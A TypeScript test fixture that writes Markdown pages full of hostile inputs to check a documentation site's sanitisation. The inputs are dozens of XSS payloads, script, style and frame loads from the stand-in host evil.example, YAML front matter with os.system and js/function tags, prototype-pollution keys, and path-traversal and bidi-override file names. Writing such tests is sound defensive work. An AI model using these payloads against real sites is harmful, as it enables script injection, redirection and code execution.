import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

const run = 'window.ran=1';
const away = 'https://evil.example/';
const script = `<script>${run}</script>`;

/** What a page could say to run a script, load from elsewhere, cover the page, or break what is around it. */
export const payloads: Record<string, string> = {
  script,
  'script in capitals': `<ScRiPt>${run}</sCrIpT>`,
  'script from elsewhere': `<script src="${away}x.js"></script>`,
  'module script': `<script type="module">${run}</script>`,
  'script that does not end': `<script>${run}`,
  'script in a script': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'end of a script': `</script>${script}`,
  'end of a style': `</style>${script}`,
  'end of a title': `</title></head><body>${script}`,
  'end of a cell': `</td></tr></tbody></table>${script}<table><tr><td>`,
  'end of a template': `</template>${script}`,
  'end of a comment': `-->${script}<!--`,
  style: '<style>main{display:none}body{position:fixed}</style>',
  'style from elsewhere': `<link rel="stylesheet" href="${away}x.css">`,
  'style import': `<style>@import "${away}x.css"</style>`,
  'style attribute': '<b style="position:fixed;inset:0;background:red">x</b>',
  iframe: `<iframe src="${away}"></iframe>`,
  'iframe of a document': `<iframe srcdoc="${script.replaceAll('"', '&quot;')}"></iframe>`,
  object: `<object data="${away}x"></object><embed src="${away}x">`,
  form: `<form action="${away}"><input name="x" autofocus onfocus="${run}"><button>y</button></form>`,
  meta: `<meta http-equiv="refresh" content="0;url=${away}">`,
  base: `<base href="${away}">`,
  image: `<img src="${away}x.png" onerror="${run}">`,
  'image that fails': `<img src=x onerror=${run}>`,
  'Markdown image': `![x](${away}x.png)`,
  'image set': `<picture><source srcset="${away}x.png"><img src="${away}y.png"></picture>`,
  video: `<video src="${away}x" poster="${away}y" onloadstart="${run}" autoplay></video>`,
  audio: `<audio src="${away}x" onerror="${run}"></audio>`,
  'event handler': `<b onmouseover="${run}" onclick="${run}">x</b>`,
  details: `<details open ontoggle="${run}"><summary>x</summary></details>`,
  marquee: `<marquee onstart="${run}">x</marquee>`,
  svg: `<svg onload="${run}"><script>${run}</script><use href="${away}x.svg#a"/></svg>`,
  'svg animation': `<svg><a><animate attributeName=href values="javascript:${run}"/><text>x</text></a></svg>`,
  'svg foreign object': `<svg><foreignObject><iframe srcdoc="${run}"></iframe></foreignObject></svg>`,
  math: `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  'math annotation': `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  'namespace confusion': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  'svg and paragraph': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'template shadow': `<div><template shadowrootmode="open"><script>${run}</script></template></div>`,
  comment: `<!--><img src=x onerror=${run}>-->`,
  'comment with a bang': `<!--! --!><img src=x onerror=${run}> -->`,
  'character data': `<![CDATA[><img src=x onerror=${run}>]]>`,
  instruction: `<?xml version="1.0"?><?x ><img src=x onerror=${run}>?>`,
  textarea: `<textarea></textarea><img src=x onerror=${run}></textarea>`,
  'select and style': `<select><style></select><img src=x onerror=${run}></style>`,
  plaintext: '<plaintext>',
  xmp: `<xmp><img src=x onerror=${run}></xmp>`,
  'javascript link': `[x](javascript:${run})`,
  'javascript link in HTML': `<a href="javascript:${run}">x</a>`,
  'javascript link in references': `[x](&#106;&#x61;vascript&colon;${run})`,
  'javascript link with a tab': `<a href="java&Tab;script&colon;${run}">x</a>`,
  'javascript link with a control': `<a href="&#1;javascript:${run}">x</a>`,
  'javascript autolink': `<javascript:${run}>`,
  'javascript definition': `[x]\n\n[x]: javascript:${run}`,
  'vbscript link': '[x](vbscript:msgbox)',
  'data link': `[x](data:text/html,${script})`,
  'broken link': `[x](https://a.b/"onmouseover="${run}")`,
  'link with a tag': `[x](<https://a.b/"><img src=x onerror=${run}>>)`,
  'link title': `[x](https://a.b "\\"><img src=x onerror=${run}>")`,
  'link that opens': `<a href="https://a.b" target="_blank" ping="${away}">x</a>`,
  'ids of the page': '<b id="main">x</b><a name="members"></a><a id="member.first"></a>',
  'names of the document':
    '<form id="location" name="body"><input name="cookie" id="search"></form>',
  'code span': `\`${script}\` \`\`</code>${script}\`\``,
  'Markdown in HTML': `<b title="*x*" ${run}>*x*</b onclick=${run}>`,
  'half a tag': `<img src=x onerror=${run} `,
  'half an attribute': `<b title="x`,
  'overlong attribute': `<b ${'x '.repeat(500)}onclick=${run}>x</b>`,
  'Astro expression': `{${run}} <Fragment set:html="${script}" /> <slot/>`,
  'template literal': `\${${run}} {{constructor.constructor('${run}')()}} <%= ${run} %>`,
  'line separators': `\u2028${script}\u2029`,
  'bidi override': '\u202egnp.exe\u202c \u2066x',
  'invisible letters': 'n\u200bo\u2060n\u00ade\u{e0041}',
  'combining marks': `x${'\u0300'.repeat(500)}`,
  'half a surrogate': 'x&#xD800;y',
  NUL: `<\0script>${run}</\0script> &#0;`,
  'quotation marks': `"'><b>'"\``,
  'closing quotes for JSON': `","x":"\\u003cscript>`,
  'long word': 'x'.repeat(20_000),
};

/** Front matter that could reach a page. */
const frontMatters: Record<string, string> = {
  'HTML title': `title: "</title>${script}"\nauthor: "<img src=x onerror=${run}>"\nms.sourcegitcommit: "\\"><script>"\nms.lasthandoff: "<b>"\nms.translationtype: "<b>"`,
  prototype: '__proto__:\n  polluted: 1\nconstructor: 1\nauthor: __proto__',
  aliases: Array.from(
    { length: 20 },
    (_, i) => `a${i}: &a${i} [${i ? `*a${i - 1},`.repeat(9) : ''}]`,
  ).join('\n'),
  'type tags': `a: !!js/function "function(){${run}}"\nb: !!python/object/apply:os.system [x]`,
  'merge keys': 'a: &a {b: 1}\nc:\n  <<: *a',
  'not YAML': `title: ${script}: "x" y`,
};

/** Names of members and values that objects, addresses or documents could take for something else. */
const names = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'prototype',
  '</script>',
  '<b>x</b>',
  '"><img>',
  '..',
  '../../etc',
  '%2e%2e',
  'a b',
  'a#b',
  'a?b',
  'a&amp;b',
  "'",
  '`x`',
  'main',
  'search',
  'member.main',
  'none',
  'none',
  'none.2',
  'x\u202ey',
  'n'.repeat(5000),
];

/** File names that may not become an address. */
const fileNames = [
  '%2e%2e.md',
  '....md',
  'a b.md',
  'a"b.md',
  "a'b.md",
  '<img src=x onerror=window.ran=1>.md',
  'a&b.md',
  'a?b#c.md',
  'x\u202ey.md',
  'größe-漢.md',
  '.hidden.md',
  '-.md',
  '__proto__.md',
  'index.md',
  'index.md.md',
  'index.html.md',
  'hostile-enums.json.md',
  `${'n'.repeat(240)}.md`,
];
const versions = [
  'search',
  'quality',
  'guides',
  '..%2f',
  '.x',
  'api',
  'llms.txt',
  'sitemap.xml',
  '404.html',
  'index.json',
  'members.jsonl',
];

/** Writes the hostile content folder: each payload in each place of a page in each format. Returns the files' number. */
export function writeHostile(dir: string): number {
  let count = 0;
  const write = (locale: string, path: string, text: string) => {
    const file = join(dir, locale, 'api-reference', path);
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, text);
    count += 1;
  };
  Object.values(payloads).forEach((payload, i) => {
    const page = `beta/resources/hostile-payload${i}.md`;
    write('en', page, english(payload));
    write('zh-CN', page, sideBySide(payload));
    write('pt-BR', page, plain(payload));
    write('zh-CN', `beta/resources/hostile-alone${i}.md`, sideBySide(payload));
  });
  Object.values(frontMatters).forEach((matter, i) => {
    const page = `beta/resources/hostile-matter${i}.md`;
    write('en', page, `---\n${matter}\n---\n\n${english('x')}`);
    write('zh-CN', page, `---\n${matter}\n---\n\n${sideBySide('x')}`);
  });
  const rows = names.map((name, i) => `|${name}|${names[names.length - 1 - i]}|x|`).join('\n');
  for (const type of ['aNames', '__proto__', 'constructor'])
    write(
      'en',
      `v1.0/resources/hostile-${type.toLowerCase()}.md`,
      `# ${type} enum type\n\n|Member|Value|Description|\n|-|-|-|\n${rows}\n`,
    );
  const sections = [
    '__proto__',
    'constructor',
    'toString',
    'index.md',
    'a',
    'A',
    'a.2',
    'x'.repeat(300),
  ];
  write(
    'en',
    'v1.0/resources/hostile-enums.md',
    `# Enums\n\n${sections.map((name) => `### ${name} values\n\n|Member|\n|-|\n|x|\n`).join('\n')}`,
  );
  for (const name of fileNames) write('en', `v1.0/resources/${name}`, english('x'));
  for (const version of versions)
    write('en', `${version}/resources/hostile-version.md`, english('x'));
  return count;
}

const head = (payload: string) => `|Member|Value|Description|${payload}\n|-|-|-|-|\n`;

function english(payload: string): string {
  return `# aType enum type\n\nNamespace: microsoft.graph\n\n${payload}\n\n> **Note:** ${payload}\n\n- ${payload}\n\n## ${payload}\n\n${head(payload)}|first|0|${payload}|x|\n|${payload}|1|x|x|\n|second|${payload}|x|${payload}|\n\n${payload}\n`;
}

let next = 1;

function pair(target: string, source: string): string {
  const id = next++;
  return `<span data-ttu-id="h-${id}">${target}</span><span class="sxs-lookup"><span data-stu-id="h-${id}">${source}</span></span>`;
}

function sideBySide(payload: string): string {
  const both = pair(payload, payload);
  const cells = ['Member', 'Value', 'Description', payload].map((text) => pair(payload, text));
  return `# ${pair(`aType ${payload}`, 'aType enum type')}\n\n${both}\n\n> ${both}\n\n- ${both} ${payload}\n\n## ${both}\n\n${payload}\n\n|${cells.join('|')}|\n|-|-|-|-|\n|${pair(payload, 'first')}|${pair(payload, '0')}|${both}|${both}|\n|${both}|${pair('1', '1')}|${both}|${payload}|\n|${payload}|${payload}|${payload}|x|\n\n${both}\n`;
}

function plain(payload: string): string {
  return `# <a name="atype-enum-type"></a>aType ${payload}\n\n${payload}\n\n> ${payload}\n\n## <a name="members"></a>${payload}\n\n${head(payload)}|${payload}|0|${payload}|x|\n|${payload}|1|${payload}|${payload}|\n\n${payload}\n`;
}
